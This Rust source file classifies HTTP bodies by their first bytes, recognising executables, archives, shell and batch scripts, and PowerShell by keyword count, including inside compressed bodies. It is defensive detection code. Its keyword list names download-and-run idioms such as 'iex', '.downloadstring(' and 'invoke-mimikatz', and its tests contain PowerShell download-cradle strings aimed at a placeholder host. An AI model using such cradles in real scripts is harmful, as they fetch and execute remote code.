//! What a body looks like, by its first bytes. Told only when it is plain: a wrong name here would accuse.
//!
//! Executables, archives, documents and scripts by their magic; PowerShell, which has none, by at least two of its own
//! words in text that is neither markup nor JSON. A compressed body (`Content-Encoding`) is looked into first.

use flate2::read::{GzDecoder, ZlibDecoder};
use std::io::Read;

/// Names what `body` begins with.
pub(in crate::protocol) fn look(body: &[u8], encoding: Option<&[u8]>) -> Option<&'static str> {
    match encoding {
        None => name(body),
        Some(coding) if coding.eq_ignore_ascii_case(b"identity") => name(body),
        Some(coding) if coding.eq_ignore_ascii_case(b"gzip") || coding.eq_ignore_ascii_case(b"x-gzip") => {
            name(&inflate(GzDecoder::new(body)))
        }
        Some(coding) if coding.eq_ignore_ascii_case(b"deflate") => name(&inflate(ZlibDecoder::new(body))),
        Some(_) => None,
    }
}

/// As many bytes as can be had of a stream that is cut, [`ENOUGH`] at most.
fn inflate(mut stream: impl Read) -> Vec<u8> {
    let mut out = vec![0; ENOUGH];
    let mut len = 0_usize;
    while let Some(room @ [_, ..]) = out.get_mut(len..) {
        match stream.read(room) {
            Ok(n @ 1..) => len = len.saturating_add(n),
            Ok(0) | Err(_) => break,
        }
    }
    out.truncate(len);
    out
}

fn name(body: &[u8]) -> Option<&'static str> {
    if let Some((_, name)) = MAGIC.iter().find(|(magic, _)| body.starts_with(magic)) {
        return Some(name);
    }
    if let Some(rest) = body.strip_prefix(b"\xca\xfe\xba\xbe") {
        // Java's class files share the magic; their version stands where the count of architectures does.
        return rest.get(..4).map(|n| if n < b"\0\0\0\x2d".as_slice() { "macho" } else { "java" });
    }
    if body.starts_with(b"MZ") {
        return is_pe(body).then_some("pe");
    }
    if let Some(line) = body.strip_prefix(b"#!") {
        return Some(interpreter(line.split(|b| *b == b'\n').next().unwrap_or_default()));
    }
    let text = text(body)?;
    let start = text.trim_ascii_start();
    if start.starts_with(b"@echo off") {
        return Some("batch");
    }
    if start.starts_with(b"<hta:application") || start.starts_with(b"<script language=\"vbscript\"") {
        return Some("script");
    }
    if matches!(start.first(), None | Some(b'<' | b'{')) {
        return None;
    }
    if words(start, POWERSHELL) >= 2 {
        return Some("powershell");
    }
    (words(start, SCRIPT_HOST) >= 1).then_some("script")
}

/// RFC-less, but fixed: the PE header's offset stands at 0x3c (Microsoft, PE format).
fn is_pe(body: &[u8]) -> bool {
    let offset = body.get(0x3c..0x40).and_then(|b| b.try_into().ok()).map_or(0, u32::from_le_bytes);
    let at = usize::try_from(offset).unwrap_or(usize::MAX);
    match body.get(at..at.saturating_add(4)) {
        Some(signature) => signature == b"PE\0\0",
        // The header lies behind what was looked at; offsets of real files are small and aligned.
        None => (0x40..0x1000).contains(&offset) && offset.is_multiple_of(8),
    }
}

fn interpreter(line: &[u8]) -> &'static str {
    let command = line.trim_ascii().rsplit(|b| *b == b'/').next().unwrap_or_default();
    let mut words = command.split(u8::is_ascii_whitespace).filter(|word| !word.is_empty());
    let first = words.next().unwrap_or_default();
    let program = if first == b"env" { words.next().unwrap_or_default() } else { first };
    match program {
        b"sh" | b"bash" | b"dash" | b"ash" | b"zsh" | b"ksh" | b"csh" | b"tcsh" | b"busybox" => "shell",
        b"pwsh" | b"powershell" => "powershell",
        _ => "script",
    }
}

/// Lower-case ASCII of a text, UTF-16LE included; `None` for what is no text.
fn text(body: &[u8]) -> Option<Vec<u8>> {
    let body = body.get(..ENOUGH).unwrap_or(body);
    let narrow: Vec<u8> = match body {
        [0xff, 0xfe, rest @ ..] => rest
            .chunks_exact(2)
            .map(|c| if c.last() == Some(&0) { c.first().copied().unwrap_or(b'?') } else { b'?' })
            .collect(),
        [0xef, 0xbb, 0xbf, rest @ ..] => rest.to_vec(),
        _ => body.to_vec(),
    };
    let is_text = |b: &u8| *b >= 0x20 || matches!(b, b'\t' | b'\n' | b'\r' | 0x0c);
    narrow.iter().all(is_text).then(|| narrow.to_ascii_lowercase())
}

/// How many of `list` are in the text; one that begins with a letter counts only where a word begins. One pass, because
/// most bodies are text without any of them.
fn words(text: &[u8], list: &[&[u8]]) -> u32 {
    let (mut found, mut before) = (0_u64, b' ');
    for (at, byte) in text.iter().enumerate() {
        let begins = !before.is_ascii_alphanumeric() || !byte.is_ascii_alphanumeric();
        before = *byte;
        if !begins {
            continue;
        }
        let rest = text.get(at..).unwrap_or_default();
        for (n, word) in list.iter().enumerate().filter(|(_, word)| word.first() == Some(byte)) {
            if rest.starts_with(word) {
                found |= 1 << (n % 64);
            }
        }
    }
    found.count_ones()
}

/// Bytes of a body that are looked at.
pub(in crate::protocol) const ENOUGH: usize = 512;

const MAGIC: &[(&[u8], &str)] = &[
    (b"\x7fELF", "elf"),
    (b"PK\x03\x04", "archive"),         // ZIP, and what is made of it: JAR, APK, Office.
    (b"\x1f\x8b\x08", "archive"),       // gzip (RFC 1952 §2.3.1).
    (b"7z\xbc\xaf\x27\x1c", "archive"), // 7-Zip.
    (b"Rar!\x1a\x07", "archive"),       // RAR 4 and 5.
    (b"MSCF\0\0\0\0", "archive"),       // Cabinet.
    (b"\xfd7zXZ\0", "archive"),         // xz.
    (b"BZh91AY&SY", "archive"),         // bzip2.
    (b"\x28\xb5\x2f\xfd", "archive"),   // Zstandard (RFC 8878 §3.1.1).
    (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1", "ole"), // MSI, old Office.
    (b"\xcf\xfa\xed\xfe", "macho"),
    (b"\xce\xfa\xed\xfe", "macho"),
    (b"\x4c\0\0\0\x01\x14\x02\0", "lnk"), // Shell link ([MS-SHLLINK] §2.1).
    (b"%PDF-", "pdf"),
];

/// Words of PowerShell that other languages do not use; at most 64.
const POWERSHELL: &[&[u8]] = &[
    b"invoke-expression",
    b"invoke-webrequest",
    b"invoke-restmethod",
    b"invoke-command",
    b"invoke-mimikatz",
    b"start-process",
    b"new-object",
    b"add-type",
    b"set-strictmode",
    b"get-wmiobject",
    b"get-ciminstance",
    b"write-host",
    b"write-output",
    b"out-null",
    b"foreach-object",
    b"where-object",
    b"[cmdletbinding",
    b"[parameter(",
    b"[system.",
    b"[convert]::",
    b"[text.encoding]::",
    b"[net.",
    b"[reflection.assembly]",
    b"$erroractionpreference",
    b"$psversiontable",
    b"$env:",
    b"-encodedcommand",
    b"iex(",
    b"iex (",
    b"|iex",
    b"| iex",
    b".downloadstring(",
    b".downloadfile(",
    b"frombase64string(",
];

/// Words of VBScript and JScript for the Windows script host.
const SCRIPT_HOST: &[&[u8]] =
    &[b"wscript.createobject(", b"createobject(\"wscript.", b"activexobject(\"wscript.", b"on error resume next"];

#[cfg(test)]
mod tests {
    use super::*;
    use flate2::Compression;
    use flate2::write::GzEncoder;
    use std::io::Write;

    #[test]
    fn bodies_are_named_only_when_it_is_plain() {
        let mut pe = vec![0; 0x90];
        pe[..2].copy_from_slice(b"MZ");
        pe[0x3c] = 0x80;
        pe[0x80..0x84].copy_from_slice(b"PE\0\0");
        let mut no_pe = pe.clone();
        no_pe[0x80] = b'X';
        let wide: Vec<u8> = [0xff, 0xfe]
            .into_iter()
            .chain("$x = New-Object Net.WebClient; IEX (1)".bytes().flat_map(|b| [b, 0]))
            .collect();
        for (what, body, expected) in [
            ("nothing", &b""[..], None),
            ("a program", &pe, Some("pe")),
            ("MZ without a PE header", &no_pe, None),
            ("MZ, cut", b"MZ", None),
            ("a Java class", b"\xca\xfe\xba\xbe\0\0\0\x34", Some("java")),
            ("a universal binary", b"\xca\xfe\xba\xbe\0\0\0\x02", Some("macho")),
            ("an ELF file", b"\x7fELF\x02\x01\x01", Some("elf")),
            ("a ZIP archive", b"PK\x03\x04\x14\0", Some("archive")),
            ("a shell script", b"#!/bin/bash -e\ncurl", Some("shell")),
            ("a shell script by env", b"#!/usr/bin/env bash\n", Some("shell")),
            ("a Python script", b"#!/usr/bin/env python3\n", Some("script")),
            (
                "PowerShell",
                b"$c = New-Object System.Net.WebClient\r\nIEX ($c.DownloadString('http://x'))",
                Some("powershell"),
            ),
            ("PowerShell in UTF-16", &wide, Some("powershell")),
            ("one word of PowerShell", b"see New-Object in the manual", None),
            ("a page about PowerShell", b"<html>New-Object IEX ( Write-Host", None),
            ("JSON that quotes it", b"{\"a\": \"New-Object | iex Write-Host\"}", None),
            ("a batch file", b"@ECHO OFF\r\ncopy", Some("batch")),
            ("VBScript", b"Set s = CreateObject(\"WScript.Shell\")", Some("script")),
            ("plain text", b"hello", None),
            ("JavaScript", b"function a(){return $('x').new-object}", None),
        ] {
            assert_eq!(look(body, None), expected, "{what}");
        }
    }

    #[test]
    fn compressed_bodies_are_looked_into() {
        let mut gz = GzEncoder::new(Vec::new(), Compression::default());
        gz.write_all(b"#!/bin/sh\n").unwrap();
        gz.write_all(&[b'x'; 10_000]).unwrap();
        let gz = gz.finish().unwrap();
        assert_eq!(look(&gz, Some(b"gzip")), Some("shell"));
        assert_eq!(look(&gz[..gz.len() - 12], Some(b"GZIP")), Some("shell"), "cut");
        assert_eq!(look(&gz, None), Some("archive"), "nobody said it was a coding");
        assert_eq!(look(&gz, Some(b"br")), None);
        assert_eq!(look(b"\x1f\x8b\x08garbage", Some(b"gzip")), None);
    }
}
